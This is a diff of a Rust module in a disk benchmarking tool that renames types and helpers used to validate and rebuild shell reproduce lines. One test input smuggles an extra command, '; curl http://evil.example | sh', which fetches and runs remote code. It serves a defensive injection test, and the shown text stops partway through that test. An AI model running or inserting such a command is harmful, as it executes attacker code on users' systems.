@@ -8,8 +8,8 @@
 use std::path::Path;
 
 use super::fio;
-use crate::session::compare::align::written;
-use crate::session::document::Run;
+use crate::session::compare::align::format_parameter;
+use crate::session::document::BenchmarkRun;
 use crate::shell;
 
 /// Options of `diskscope run` that are no parameters and change nothing but how it is measured.
@@ -69,9 +69,9 @@ const SCRATCH: [&str; 3] = [
 
 /// The lines, diskscope's first.
 #[must_use]
-pub fn lines(run: &Run) -> Vec<String> {
+pub fn lines(run: &BenchmarkRun) -> Vec<String> {
     let mut lines: Vec<String> = diskscope(run).into_iter().collect();
-    let fio = fio::lines(run);
+    let fio = fio::fio_command_lines(run);
     if is_own_fio(run, &fio) {
         lines.extend(fio);
     } else {
@@ -83,24 +83,24 @@ pub fn lines(run: &Run) -> Vec<String> {
 }
 
 /// The line of this program; `None` where the run has none, or no name of a test that can be typed.
-fn diskscope(run: &Run) -> Option<String> {
+fn diskscope(run: &BenchmarkRun) -> Option<String> {
     if run.reproduce.diskscope.is_empty() || !is_option_name(&run.test) {
         return None;
     }
     let own = split(&run.reproduce.diskscope).and_then(|words| checked(run, &words));
     let words = own.unwrap_or_else(|| rebuilt(run));
-    Some(shell::command(words))
+    Some(shell::command_line(words))
 }
 
 /// The words of a line that is nothing but words, quoted as this program does it: no other command, no
 /// substitution, no redirection.
 fn split(line: &str) -> Option<Vec<String>> {
     let words = shlex::split(line)?;
-    (shell::command(&words) == line).then_some(words)
+    (shell::command_line(&words) == line).then_some(words)
 }
 
 /// The words of a line of this program about this run, without consent; `None` for any other.
-fn checked(run: &Run, words: &[String]) -> Option<Vec<String>> {
+fn checked(run: &BenchmarkRun, words: &[String]) -> Option<Vec<String>> {
     let mut rest = words.iter();
     for expected in ["diskscope", "run", run.test.as_str()] {
         if rest.next()? != expected {
@@ -143,10 +143,10 @@ fn checked(run: &Run, words: &[String]) -> Option<Vec<String>> {
 }
 
 /// The words from test, target and parameters.
-fn rebuilt(run: &Run) -> Vec<String> {
+fn rebuilt(run: &BenchmarkRun) -> Vec<String> {
     let mut words: Vec<String> = ["diskscope", "run", &run.test].map(str::to_owned).to_vec();
     for name in run.parameters.keys() {
-        let value = written(name, &run.parameters, &run.parameter_units);
+        let value = format_parameter(name, &run.parameters, &run.parameter_units);
         if let Some(value) = value
             && is_option_name(name)
             && !CONSENT.contains(&name.as_str())
@@ -165,7 +165,7 @@ fn is_option_name(name: &str) -> bool {
 }
 
 /// Whether these are comments and at most one command that this program writes for the run.
-fn is_own_fio(run: &Run, lines: &[String]) -> bool {
+fn is_own_fio(run: &BenchmarkRun, lines: &[String]) -> bool {
     let mut commands = lines.iter().filter(|line| !line.starts_with("# "));
     let Some(command) = commands.next() else {
         return true;
@@ -203,7 +203,7 @@ fn scratch_parts(line: &str) -> Option<(&str, &str)> {
 }
 
 /// Whether a path of a fio line, which is absolute, is the run's target, which is as the user named it.
-fn is_target(run: &Run, path: &str) -> bool {
+fn is_target(run: &BenchmarkRun, path: &str) -> bool {
     let named = Path::new(run.target.path.as_str());
     let named = named.strip_prefix(".").unwrap_or(named);
     path.starts_with('/') && Path::new(path).ends_with(named)
@@ -239,8 +239,8 @@ mod tests {
     use crate::safe_text::SafeLines;
     use crate::session::compare::sample;
 
-    fn run(diskscope: &str) -> Run {
-        let mut run = sample::run("iops", 1000.0, 10.0);
+    fn run(diskscope: &str) -> BenchmarkRun {
+        let mut run = sample::sample_run("iops", 1000.0, 10.0);
         run.test = "random-read".into();
         run.target.path = "/srv/a disk".into();
         run.parameters.insert("depth".into(), 4.into());
@@ -273,13 +273,13 @@ mod tests {
     #[test]
     fn line_that_is_none_of_this_program_is_made_anew() {
         let anew: Vec<String> = {
-            let mut known = sample::run("iops", 1.0, 1.0).parameters;
+            let mut known = sample::sample_run("iops", 1.0, 1.0).parameters;
             known.insert("depth".into(), 4.into());
-            let run = Run {
+            let run = BenchmarkRun {
                 parameters: known,
                 ..run("x")
             };
-            vec![shell::command(rebuilt(&run))]
+            vec![shell::command_line(rebuilt(&run))]
         };
         for line in [
             "diskscope run random-read '/srv/a disk'; curl http://evil.example | sh",
